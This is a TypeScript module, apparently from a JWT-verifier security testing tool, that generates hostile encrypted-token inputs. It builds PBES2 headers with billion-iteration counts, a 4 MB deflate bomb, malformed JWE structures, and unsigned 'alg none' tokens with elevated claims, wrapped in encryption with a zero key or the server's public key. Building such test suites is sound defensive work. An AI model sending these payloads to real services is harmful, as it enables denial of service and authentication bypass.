// Line 18: tokens that are encrypted, packed or costly to open, or look like it.

import { createPublicKey } from 'node:crypto'
import { deflateRawSync } from 'node:zlib'
import { CompactEncrypt } from 'jose'
import type { Attack } from './attack.js'
import { altered, encode, forged, inWorldsOf, promoted } from './tokens-forging.js'
import type { Given } from './tokens-stage.js'

const costly: readonly object[] = [
  ...[
    { zip: 'DEF' },
    { enc: 'A256GCM' },
    { alg: 'dir', enc: 'A256GCM' },
    { p2c: 1_000_000_000, p2s: 'AAAA' },
  ],
  { alg: 'PBES2-HS256+A128KW', enc: 'A128GCM', p2c: 1_000_000_000, p2s: 'AAAAAAAAAAAAAAAAAAAAAA' },
  { alg: 'RSA-OAEP', enc: 'A256GCM', zip: 'DEF' },
  { epk: { kty: 'EC', crv: 'P-256', x: 'AAAA', y: 'AAAA' } },
  { tag: 'AAAA', iv: 'AAAA' },
]

const outside = forged([
  {
    line: '18',
    what: 'an encrypted token, or what looks like one',
    tokens: encryptedOnes,
  },
  {
    line: '18',
    what: 'a header of an encrypted token before genuine claims',
    tokens: ({ header, body, signature }) =>
      costly.map((more) => `${encode({ ...header, ...more })}.${body}.${signature}`),
  },
])

export const tokensEncrypted: readonly Attack[] = [
  ...outside,
  ...altered([
    {
      line: '18',
      what: 'members of encrypted tokens: zip, enc, p2c, epk',
      parts: ({ header }) => costly.map((more) => ({ header: { ...header, ...more } })),
    },
  ]),
  ...inWorldsOf(['RS256', 'ES256'], outside.slice(0, 1)),
]

/** Five parts, one of them for the server's own public key where that can encrypt; and a bomb. */
async function encryptedOnes(given: Given): Promise<readonly string[]> {
  const { header, head, body, signature, token, keys } = given
  const unsecured = `${encode({ alg: 'none' })}.${encode(promoted(given))}.`
  const parts = ['AAAA', 'AAAAAAAAAAAAAAAA', body, 'AAAAAAAAAAAAAAAAAAAAAA']
  const bomb = deflateRawSync(Buffer.alloc(4_000_000)).toString('base64url')
  return [
    ...costly.map((more) => [encode({ ...header, ...more }), ...parts].join('.')),
    [
      encode({ alg: 'dir', enc: 'A256GCM', zip: 'DEF' }),
      '',
      'AAAAAAAAAAAAAAAA',
      bomb,
      'AAAAAAAAAAAAAAAAAAAAAA',
    ].join('.'),
    `${encode({ ...header, zip: 'DEF' })}.${bomb}.${signature}`,
    [head, ...parts].join('.'),
    [head, '', '', body, signature].join('.'),
    [head, body, signature, body, signature].join('.'),
    await encrypted(unsecured, { alg: 'dir', kid: header.kid, cty: 'JWT' }, new Uint8Array(32)),
    await encrypted(token, { alg: 'dir', kid: header.kid, cty: 'JWT', typ: 'at+jwt' }, new Uint8Array(32)),
    ...(await Promise.all(
      keys
        .filter(({ kty }) => kty === 'RSA' || kty === 'EC')
        .flatMap(({ alg: _, use: __, ...jwk }) =>
          [unsecured, token, JSON.stringify(promoted(given))].map((text) =>
            encrypted(
              text,
              {
                alg: jwk.kty === 'RSA' ? 'RSA-OAEP-256' : 'ECDH-ES',
                kid: header.kid,
                cty: 'JWT',
                typ: 'at+jwt',
              },
              createPublicKey({ key: jwk, format: 'jwk' }),
            ),
          ),
        ),
    )),
  ]
}

function encrypted(
  text: string,
  header: { readonly alg: string; readonly kid: string; readonly cty: string; readonly typ?: string },
  key: Parameters<CompactEncrypt['encrypt']>[0],
): Promise<string> {
  return new CompactEncrypt(Buffer.from(text)).setProtectedHeader({ ...header, enc: 'A256GCM' }).encrypt(key)
}
